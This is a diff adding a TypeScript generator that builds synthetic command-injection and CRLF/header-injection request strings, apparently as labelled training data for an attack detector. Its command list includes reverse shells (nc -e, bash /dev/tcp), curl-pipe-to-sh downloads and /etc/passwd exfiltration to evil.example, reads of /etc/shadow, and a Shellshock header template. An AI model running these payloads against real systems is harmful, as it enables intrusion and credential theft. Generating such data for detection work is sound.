@@ -1,0 +1,82 @@
+// Generates the attack families the source lists barely cover: command injection as it reaches a
+// parameter (a plausible value, a separator, a command) and CRLF / header injection.
+// Called by build.ts; sources are `gen:rce:<family>` and `gen:crlf:<family>`.
+
+import { buildQuery, fillerParam, site, word, ipv4 } from './contexts.ts';
+import { Rng } from './rng.ts';
+import { GenRow } from './nosqli.ts';
+
+export interface AttackRow extends GenRow { cls: string }
+
+const CMDS = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'cat /etc/shadow', 'ls -la', 'ls -la /', 'pwd', 'hostname', 'ifconfig', 'ip a', 'ps aux',
+  'netstat -an', 'sleep 5', 'sleep 10', 'ping -c 3 127.0.0.1', 'ping -n 3 127.0.0.1', 'cat /proc/self/environ', 'env', 'set', 'echo pwned', 'touch /tmp/pwned',
+  'rm -rf /tmp/x', 'nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'curl http://evil.example/x.sh | sh', 'wget http://evil.example/a -O /tmp/a',
+  'python -c "import os;os.system(\'id\')"', 'perl -e "print 1"', 'php -r "system(\'id\');"', 'powershell -enc SQBFAFgA', 'cmd /c dir', 'type C:\\Windows\\win.ini',
+  'net user', 'dir c:\\', 'nslookup evil.example', 'curl -d @/etc/passwd http://evil.example/', 'chmod +x /tmp/a', '/bin/sh -c id', 'busybox telnetd -l /bin/sh'];
+const SEPS: Array<[(v: string, c: string) => string, number]> = [
+  [(v, c) => `${v};${c}`, 10], [(v, c) => `${v}; ${c}`, 6], [(v, c) => `${v}|${c}`, 6], [(v, c) => `${v} | ${c}`, 4], [(v, c) => `${v}||${c}`, 4],
+  [(v, c) => `${v}&&${c}`, 5], [(v, c) => `${v} && ${c}`, 3], [(v, c) => `${v}&${c}`, 2], [(v, c) => `${v}\n${c}`, 4], [(v, c) => `${v}\`${c}\``, 4],
+  [(v, c) => `${v}$(${c})`, 5], [(v, c) => `$(${c})`, 3], [(v, c) => `\`${c}\``, 3], [(v, c) => `;${c}`, 4], [(v, c) => `|${c}`, 3], [(v, c) => `${v}';${c};'`, 2],
+  [(v, c) => `${v}";${c};"`, 2], [(v, c) => `${v}%0a${c}`, 2], [(v, c) => `${v};${c.replace(/ /g, '${IFS}')}`, 2], [(v, c) => `${v};${c.replace(/ /g, '\t')}`, 1],
+];
+const CMD_PARAMS = ['host', 'ip', 'domain', 'cmd', 'exec', 'command', 'ping', 'target', 'addr', 'file', 'filename', 'path', 'dir', 'url', 'name', 'q', 'id', 'email', 'to', 'callback'];
+
+function benignValue(r: Rng, name: string): string {
+  if (['host', 'domain', 'target', 'url'].includes(name)) return r.pick([site(r), `www.${site(r)}`, 'example.com', 'localhost']);
+  if (['ip', 'addr', 'ping'].includes(name)) return r.pick([ipv4(r), '127.0.0.1', '8.8.8.8']);
+  if (['file', 'filename', 'path', 'dir'].includes(name)) return r.pick([`${word(r)}.txt`, `report-${r.int(1, 99)}.pdf`, `/var/www/${word(r)}`, 'index.html']);
+  return r.pick([word(r), String(r.int(1, 9999)), `${word(r)}@example.com`, '']);
+}
+
+function cmdiRow(r: Rng): AttackRow {
+  const name = r.pick(CMD_PARAMS);
+  const payload = r.weighted(SEPS)(benignValue(r, name), r.pick(CMDS));
+  const where = r.weighted([['query', 45], ['body:form', 25], ['body:json', 20], ['header:Cookie', 3], ['header:User-Agent', 4], ['path', 3]] as const);
+  const enc = (s: string) => (r.chance(0.6) ? encodeURIComponent(s) : s.replace(/ /g, r.pick(['+', '%20'])).replace(/\n/g, '%0a'));
+  let text: string;
+  if (where === 'body:json') text = JSON.stringify({ [name]: payload, ...(r.chance(0.5) ? { [fillerParam(r)[0]]: word(r) } : {}) });
+  else if (where === 'body:form') { const [fk, fv] = fillerParam(r); text = `${name}=${enc(payload)}&${fk}=${fv}`; }
+  else if (where === 'header:Cookie') text = `session=${r.str(24)}; ${name}=${enc(payload)}`;
+  else if (where === 'header:User-Agent') text = r.chance(0.5) ? payload : `() { :; }; /bin/bash -c "${r.pick(CMDS)}"`;
+  else if (where === 'path') text = `/cgi-bin/${word(r)}.cgi/${encodeURIComponent(payload)}`;
+  else text = buildQuery(r, name, enc(payload));
+  return { text, where, family: 'cmdi-separators', cls: 'rce' };
+}
+
+const CRLF_HEADERS = ['Set-Cookie: session=attacker', 'Set-Cookie:crlf=injection', 'Location: https://evil.example/', 'Content-Length: 0', 'X-XSS-Protection: 0',
+  'Content-Type: text/html', 'Refresh: 0; url=https://evil.example/', 'Access-Control-Allow-Origin: *', 'X-Injected: 1'];
+const CRLF_SEQS = ['%0d%0a', '%0D%0A', '%0a', '%0d', '%E5%98%8A%E5%98%8D', '%u000d%u000a', '\\r\\n', '%250d%250a', '%0d%0a%20', '%23%0d%0a', '%3f%0d%0a', '%0d%0a%09'];
+
+function crlfRow(r: Rng): AttackRow {
+  const seq = r.pick(CRLF_SEQS);
+  let payload = `${r.chance(0.5) ? word(r) : ''}${seq}${r.pick(CRLF_HEADERS).replace(/ /g, r.pick(['%20', '', ' ']))}`;
+  if (r.chance(0.25)) payload += `${seq}${seq}<script>alert(1)</script>`;
+  const where = r.weighted([['query', 55], ['path', 35], ['body:form', 10]] as const);
+  const name = r.pick(['lang', 'redirect', 'next', 'url', 'page', 'q', 'ref', 'utm_source', 'callback', 'return']);
+  let text: string;
+  if (where === 'path') text = `/${r.pick(['', word(r) + '/', 'api/v1/', 'static/'])}${payload}`;
+  else if (where === 'body:form') text = `${name}=${payload}&${fillerParam(r).join('=')}`;
+  else text = buildQuery(r, name, payload);
+  return { text, where, family: 'header-injection', cls: 'crlf' };
+}
+
+export function generateAttacksExtra(rng: Rng, nCmdi: number, nCrlf: number): AttackRow[] {
+  const out: AttackRow[] = [];
+  for (let i = 0; i < nCmdi; i++) out.push(cmdiRow(rng));
+  for (let i = 0; i < nCrlf; i++) out.push(crlfRow(rng));
+  return out;
+}
+
+/** Benign sentences used to pad payloads, as attackers pad them to dilute a model's view. */
+export const PADDING = ['Great product, arrived on time and works as described.', 'Please find the details of my order below.',
+  'Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et dolore magna aliqua.',
+  'Hi team, I have a question about my last invoice and the shipping address on file.', 'The quick brown fox jumps over the lazy dog.',
+  'Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat.',
+  'I tried resetting my password twice but the email never arrived.', 'Thanks again for the quick response yesterday!',
+  'Duis aute irure dolor in reprehenderit in voluptate velit esse cillum dolore eu fugiat nulla pariatur.', 'Best regards, and have a nice weekend.'];
+
+export function padPayload(r: Rng, payload: string): string {
+  const pad = () => { let s = ''; const n = r.int(1, 5); for (let i = 0; i < n; i++) s += (s ? ' ' : '') + r.pick(PADDING); return s; };
+  const k = r.int(0, 2);
+  return k === 0 ? `${pad()} ${payload}` : k === 1 ? `${payload} ${pad()}` : `${pad()} ${payload} ${pad()}`;
+}
